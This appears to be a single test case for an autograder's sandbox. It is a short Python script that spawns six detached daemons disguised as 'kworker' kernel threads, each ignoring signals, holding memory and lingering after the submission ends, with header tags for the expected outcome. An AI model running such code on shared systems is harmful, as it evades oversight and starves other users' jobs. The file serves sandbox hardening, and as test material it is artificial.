# attack: daemons under other names that ignore everything, hold memory and wait for the next student
# asset: other submissions, machine
# channel: processes
# beats otter: no
# expect: not_implemented
# place: after
import ctypes
import os
import signal
import time

libc = ctypes.CDLL(None)
for _ in range(6):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        libc.prctl(15, ctypes.c_char_p(b"kworker/0:1"), 0, 0, 0)
        libc.prctl(1, 0, 0, 0, 0)
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        os.closerange(0, 256)
        held = bytearray(32 << 20)
        time.sleep(120)
        os._exit(len(held) % 2)
